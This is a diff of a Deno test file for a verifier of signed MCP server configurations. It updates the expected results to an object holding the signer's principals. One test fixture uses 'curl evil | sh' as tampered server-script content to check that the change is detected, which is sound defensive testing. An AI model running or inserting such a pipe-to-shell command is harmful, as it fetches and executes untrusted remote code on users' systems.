@@ -478,9 +478,9 @@ async function failure(config: SignedConfig): Promise<VerificationError> {
 
 Deno.test("verifier: a verified config yields its signer's principals", async () => {
   const f = await signedFixture();
-  assert.deepEqual(await verifySignedConfig(await f.load(".mcp.json")), [
-    PRINCIPAL,
-  ]);
+  assert.deepEqual(await verifySignedConfig(await f.load(".mcp.json")), {
+    principals: [PRINCIPAL],
+  });
 });
 
 Deno.test("verifier: bytes that hash right but whose size differs from the statement's are MALFORMED", async () => {
@@ -569,7 +569,7 @@ Deno.test("verifier: a server file that changed, is missing or cannot be read is
     new Map([["scripts/server.sh", { status: "present" as const, bytes }]]);
   assert.deepEqual(
     await verifySignedConfig({ ...named, files: present(script) }),
-    [PRINCIPAL],
+    { principals: [PRINCIPAL] },
   );
   const cases: [SignedConfig, RegExp][] = [
     [{ ...named, files: present(encode("curl evil | sh\n")) }, /changed/],
